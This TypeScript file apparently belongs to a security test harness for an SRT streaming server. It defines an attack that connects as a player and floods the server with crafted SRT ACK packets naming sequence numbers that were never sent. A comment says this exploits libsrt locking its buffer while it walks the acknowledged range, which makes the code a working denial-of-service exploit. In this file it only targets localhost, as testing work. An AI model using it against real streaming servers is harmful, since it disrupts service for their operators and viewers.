import { setTimeout as sleep } from 'node:timers/promises';
import { camera, ffmpeg } from '../../camera/ffmpeg';
import { SeededRandom } from '../../random';
import type { Attack } from '../attack';
import { callRaw } from './raw-caller';
import { readViewKey } from './read-view-key';

const acksPerConnection = 200;
const ackBytes = 44;

/** libsrt walks through everything that an ACK names, with its buffer locked, before it checks the ACK. */
export const impossibleAcks: Attack = {
  name: 'ACKs of packets that were never sent, by a player of the own stream',
  async run(target, signal) {
    const streamId = await readViewKey(target);
    const ingest = `srt://127.0.0.1:${target.ingestPort}?mode=caller&streamid=${target.streamKey}`;
    const source = ffmpeg(camera('-f', 'mpegts', ingest));
    const random = new SeededRandom(17);
    while (!signal.aborted) {
      const player = await callRaw({ host: '127.0.0.1', port: target.viewPort, streamId }).catch(() => null);
      if (!player) await sleep(250, undefined, { signal }).catch(() => undefined);
      for (let count = 0; player && count < acksPerConnection && !signal.aborted; count++) {
        const latest = player.received.findLast((datagram) => ((datagram[0] ?? 0) & 0x80) === 0)?.readUInt32BE(0) ?? 0;
        const ack = Buffer.alloc(ackBytes);
        ack.writeUInt16BE(0x8002, 0);
        ack.writeUInt32BE((latest + 2 + random.integer(2 ** 30 - 10)) & 0x7fff_ffff, 16);
        player.send(ack);
        await sleep(10);
      }
      player?.close();
    }
    source.child.kill('SIGKILL');
    await source.ended;
  },
};
